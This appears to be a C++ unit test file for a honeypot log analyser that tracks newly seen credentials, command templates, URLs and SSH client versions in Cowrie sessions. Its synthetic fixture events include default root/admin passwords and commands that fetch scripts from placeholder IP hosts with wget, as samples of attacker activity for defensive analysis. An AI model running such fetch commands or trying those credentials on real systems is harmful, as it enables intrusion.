#include <gtest/gtest.h>

#include "analysis_fixture.hpp"

using namespace cb;
using namespace cbtest;

namespace {

std::string corpus() {
    std::string d;
    // 2026-01-01: sensor s1, 1.1.1.1
    d += ev("s1", "a1", "1.1.1.1", "cowrie.session.connect", "2026-01-01T10:00:00Z", R"("protocol":"ssh")");
    d += ev("s1", "a1", "1.1.1.1", "cowrie.client.version", "2026-01-01T10:00:01Z", R"("version":"SSH-2.0-Go")");
    d += ev("s1", "a1", "1.1.1.1", "cowrie.client.kex", "2026-01-01T10:00:01Z", R"("hassh":"h1")");
    d += ev("s1", "a1", "1.1.1.1", "cowrie.login.failed", "2026-01-01T10:00:02Z",
            R"("username":"root","password":"123456")");
    d += ev("s1", "a1", "1.1.1.1", "cowrie.login.failed", "2026-01-01T10:00:03Z",
            R"("username":"root","password":"123456")");
    d += ev("s1", "a1", "1.1.1.1", "cowrie.login.success", "2026-01-01T10:00:04Z",
            R"("username":"root","password":"admin")");
    d += ev("s1", "a1", "1.1.1.1", "cowrie.command.input", "2026-01-01T10:00:05Z",
            R"("input":"wget http://1.2.3.4/x.sh")");
    d += ev("s1", "a1", "1.1.1.1", "cowrie.session.file_download", "2026-01-01T10:00:06Z",
            R"("url":"http://1.2.3.4/x.sh","shasum":"aaaa","outfile":"x")");
    d += ev("s1", "a1", "1.1.1.1", "cowrie.session.closed", "2026-01-01T10:00:09Z");
    // 2026-01-02: sensor s2, 2.2.2.2: the same credential and template again
    d += ev("s2", "b1", "2.2.2.2", "cowrie.session.connect", "2026-01-02T08:00:00Z", R"("protocol":"ssh")");
    d += ev("s2", "b1", "2.2.2.2", "cowrie.client.version", "2026-01-02T08:00:01Z", R"("version":"SSH-2.0-Go")");
    d += ev("s2", "b1", "2.2.2.2", "cowrie.login.success", "2026-01-02T08:00:02Z",
            R"("username":"root","password":"123456")");
    d += ev("s2", "b1", "2.2.2.2", "cowrie.command.input", "2026-01-02T08:00:05Z",
            R"("input":"wget http://5.6.7.8/y.sh")");
    d += ev("s2", "b1", "2.2.2.2", "cowrie.session.file_upload", "2026-01-02T08:00:06Z",
            R"("filename":"up.bin","shasum":"bbbb")");
    d += ev("s2", "b1", "2.2.2.2", "cowrie.session.closed", "2026-01-02T08:00:09Z");
    // 2026-01-20: sensor s1, 3.3.3.3: new credential, template, client version, failed URL
    d += ev("s1", "c1", "3.3.3.3", "cowrie.session.connect", "2026-01-20T12:00:00Z", R"("protocol":"ssh")");
    d += ev("s1", "c1", "3.3.3.3", "cowrie.client.version", "2026-01-20T12:00:01Z", R"("version":"SSH-2.0-libssh")");
    d += ev("s1", "c1", "3.3.3.3", "cowrie.login.success", "2026-01-20T12:00:02Z",
            R"("username":"admin","password":"admin")");
    d += ev("s1", "c1", "3.3.3.3", "cowrie.command.input", "2026-01-20T12:00:03Z", R"("input":"uname -a")");
    d +=
        ev("s1", "c1", "3.3.3.3", "cowrie.command.input", "2026-01-20T12:00:04Z", R"("input":"wget http://9.9.9.9/z")");
    d += ev("s1", "c1", "3.3.3.3", "cowrie.session.file_download.failed", "2026-01-20T12:00:05Z",
            R"("url":"http://9.9.9.9/z")");
    d += ev("s1", "c1", "3.3.3.3", "cowrie.session.closed", "2026-01-20T12:00:30Z");
    return d;
}

struct Row {
    std::string kind, value, first, last;
    std::int64_t sensors, sessions, src_ips, is_new;
};

std::vector<Row> rows_of(const Table& t) {
    std::vector<Row> v;
    for (const auto& r : t.rows)
        v.push_back({text(r[col(t, "kind")]), text(r[col(t, "value")]), text(r[col(t, "first_seen")]),
                     text(r[col(t, "last_seen")]), std::get<std::int64_t>(r[col(t, "sensors")]),
                     std::get<std::int64_t>(r[col(t, "sessions")]), std::get<std::int64_t>(r[col(t, "src_ips")]),
                     std::get<std::int64_t>(r[col(t, "new_in_window")])});
    return v;
}

const Row* find(const std::vector<Row>& v, std::string_view kind, std::string_view value) {
    for (const auto& r : v)
        if (r.kind == kind && r.value == value) return &r;
    return nullptr;
}

}  // namespace

TEST(Novelty, FirstSeenCountsAndWindow) {
    StringPool pool;
    const auto sessions = ingest(corpus(), pool);
    ASSERT_EQ(sessions.size(), 3u);
    const Findings f = run_one("novelty", sessions);
    const auto rows = rows_of(*table(f, "novelty"));

    const Row* cred = find(rows, "credential", R"(["root","123456"])");
    ASSERT_NE(cred, nullptr);
    EXPECT_EQ(cred->first, "2026-01-01T10:00:02.000000Z");
    EXPECT_EQ(cred->last, "2026-01-02T08:00:02.000000Z");
    EXPECT_EQ(cred->sessions, 2);  // twice in a1 counts once
    EXPECT_EQ(cred->sensors, 2);
    EXPECT_EQ(cred->src_ips, 2);
    EXPECT_EQ(cred->is_new, 0);

    const Row* tmpl = find(rows, "command_template", "wget <URL>");
    ASSERT_NE(tmpl, nullptr);
    EXPECT_EQ(tmpl->sessions, 3);  // two old URLs and the new one share a template
    EXPECT_EQ(tmpl->first, "2026-01-01T10:00:05.000000Z");
    EXPECT_EQ(tmpl->is_new, 0);

    // Download hashes come from downloads and uploads; URLs from downloads, failed ones too.
    ASSERT_NE(find(rows, "download_hash", "aaaa"), nullptr);
    ASSERT_NE(find(rows, "download_hash", "bbbb"), nullptr);
    ASSERT_NE(find(rows, "url", "http://1.2.3.4/x.sh"), nullptr);
    const Row* url = find(rows, "url", "http://9.9.9.9/z");
    ASSERT_NE(url, nullptr);
    EXPECT_EQ(url->is_new, 1);

    const Row* go = find(rows, "client_version", "SSH-2.0-Go");
    ASSERT_NE(go, nullptr);
    EXPECT_EQ(go->sessions, 2);
    EXPECT_EQ(go->first, "2026-01-01T10:00:00.000000Z");  // client versions and HASSH: session start
    EXPECT_EQ(find(rows, "hassh", "h1")->sessions, 1);

    // Window: the last 7 days before the data's last event (2026-01-20T12:00:30Z).
    EXPECT_EQ(find(rows, "credential", R"(["admin","admin"])")->is_new, 1);
    EXPECT_EQ(find(rows, "command_template", "uname -a")->is_new, 1);
    EXPECT_EQ(find(rows, "client_version", "SSH-2.0-libssh")->is_new, 1);
    EXPECT_EQ(find(rows, "client_version", "SSH-2.0-Go")->is_new, 0);

    // Sorted by kind (credential first), then first_seen.
    EXPECT_EQ(rows.front().kind, "credential");
    for (std::size_t i = 1; i < rows.size(); ++i)
        if (rows[i].kind == rows[i - 1].kind) {
            EXPECT_LE(rows[i - 1].first, rows[i].first);
        }

    // novelty_recent: exactly the new rows.
    const auto recent = rows_of(*table(f, "novelty_recent"));
    std::size_t n_new = 0;
    for (const auto& r : rows) n_new += r.is_new;
    EXPECT_EQ(recent.size(), n_new);
    EXPECT_EQ(recent.size(), 4u);  // admin/admin, uname -a, the failed URL, libssh
    for (const auto& r : recent) EXPECT_EQ(r.is_new, 1);

    ASSERT_TRUE(f.novelty);
    EXPECT_EQ(f.novelty->recent_counts, (cb::NamedCounts{{"credential", 1},
                                                         {"key_fingerprint", 0},
                                                         {"command_template", 1},
                                                         {"url", 1},
                                                         {"download_hash", 0},
                                                         {"client_version", 1},
                                                         {"hassh", 0}}));
    EXPECT_EQ(f.novelty->reference_time.value_or(""), "2026-01-20T12:00:30.000000Z");
    EXPECT_TRUE(f.novelty->has_history);
    // The report shows them as one JSON object.
    const std::string facts = cb::report_facts_json(f);
    EXPECT_NE(facts.find(R"("novelty.has_history":true,"novelty.reference_time":"2026-01-20T12:00:30.000000Z"})"),
              std::string::npos)
        << facts;
}

TEST(Novelty, WindowIsConfigurable) {
    StringPool pool;
    const auto sessions = ingest(corpus(), pool);
    AnalysisConfig cfg;
    cfg.novelty_days = 30;  // the whole data is inside the window: no history, nothing is new
    auto rows = rows_of(*table(run_one("novelty", sessions, cfg), "novelty"));
    for (const auto& r : rows) EXPECT_EQ(r.is_new, 0) << r.kind << " " << r.value;
    cfg.novelty_days = 19;  // 2026-01-01T12:00:30 onwards: a1 is history, b1 and c1 are new
    rows = rows_of(*table(run_one("novelty", sessions, cfg), "novelty"));
    EXPECT_EQ(find(rows, "credential", R"(["root","admin"])")->is_new, 0);
    EXPECT_EQ(find(rows, "credential", R"(["root","123456"])")->is_new, 0);  // first seen in a1
    EXPECT_EQ(find(rows, "download_hash", "bbbb")->is_new, 1);
    EXPECT_EQ(find(rows, "download_hash", "aaaa")->is_new, 0);
}

TEST(Novelty, CredentialTextIsExact) {
    std::string d;
    d += ev("s1", "q1", "1.1.1.1", "cowrie.login.failed", "2026-01-01T10:00:02Z",
            "\"username\":" + js("a\"b/c") + ",\"password\":" + js("x\ty"));
    d += ev("s1", "q1", "1.1.1.1", "cowrie.login.failed", "2026-01-01T10:00:03Z",
            "\"username\":" + js("a\"b") + ",\"password\":" + js("c/x\ty"));
    StringPool pool;
    const auto rows = rows_of(*table(run_one("novelty", ingest(d, pool)), "novelty"));
    // "a\"b/c" + "x\ty" and "a\"b" + "c/x\ty" would both be a"b/c/x<TAB>y with a separator: the JSON array keeps them
    // apart.
    ASSERT_EQ(rows.size(), 2u);
    EXPECT_NE(find(rows, "credential", R"(["a\"b/c","x\ty"])"), nullptr);
    EXPECT_NE(find(rows, "credential", R"(["a\"b","c/x\ty"])"), nullptr);
}

TEST(Novelty, MergeEqualsOnePass) {
    std::string d = corpus();
    // More sessions over more days, addresses and sensors so that splits differ.
    for (int i = 0; i < 60; ++i) {
        const std::string sid = cat("m", i);
        const std::string ip = cat("10.0.", i % 7, ".", i % 5);
        const std::string sensor = cat("s", i % 3);
        char day[32];
        std::snprintf(day, sizeof day, "2026-01-%02dT%02d:00:00Z", 1 + i % 20, i % 24);
        d += ev(sensor, sid, ip, "cowrie.session.connect", day);
        d += ev(sensor, sid, ip, "cowrie.login.failed", day,
                "\"username\":\"u" + std::to_string(i % 9) + "\",\"password\":\"p" + std::to_string(i % 4) + "\"");
        d += ev(sensor, sid, ip, "cowrie.command.input", day,
                "\"input\":\"echo " + std::to_string(i % 6) + " x" + std::to_string(i % 5) + "\"");
        d += ev(sensor, sid, ip, "cowrie.client.version", day, "\"version\":\"v" + std::to_string(i % 4) + "\"");
    }
    StringPool pool;
    const auto sessions = ingest(d, pool);
    ASSERT_EQ(sessions.size(), 63u);
    expect_mergeable("novelty", sessions, AnalysisConfig{});
}
